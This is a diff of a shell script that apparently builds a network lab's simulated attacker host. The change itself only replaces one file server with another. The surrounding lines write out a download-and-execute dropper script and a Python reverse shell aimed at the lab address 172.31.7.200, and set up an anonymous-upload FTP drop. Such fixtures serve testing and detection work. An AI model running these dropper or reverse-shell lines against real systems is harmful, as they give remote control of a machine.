@@ -36,7 +36,7 @@ start_boss() {
     cp /bin/ls "$d/serve/x86"
     printf '#!/bin/sh\ncd /tmp; wget http://172.31.7.200:8000/x86 -O .x; chmod +x .x; ./.x; rm -f .x\n' >"$d/serve/x.sh"; chmod -R a+rX "$d/serve"
     printf 'import socket,subprocess,os\ns=socket.socket()\ns.connect(("172.31.7.200",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(["/bin/sh","-i"])\n' >"$d/serve/a.py"; chmod a+r "$d/serve/a.py"
-    ns_start boss python3 -m http.server 8000 --bind 172.31.7.200 -d "$d/serve"
+    ns_start boss python3 "$LAB_HOME/tools/serve_files.py" "$d/serve" 172.31.7.200 8000
     printf 'listen=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\nanon_root=%s\nsecure_chroot_dir=/run/empty\nbackground=NO\nseccomp_sandbox=NO\n' "$d/drop" >"$d/drop.conf"
     sandboxed boss sh -c 'mkdir -p /run/empty && exec vsftpd "$1"' sh "$d/drop.conf"
     for port in 9001 9443; do ns_start boss socat -u TCP-LISTEN:$port,fork,reuseaddr /dev/null; done
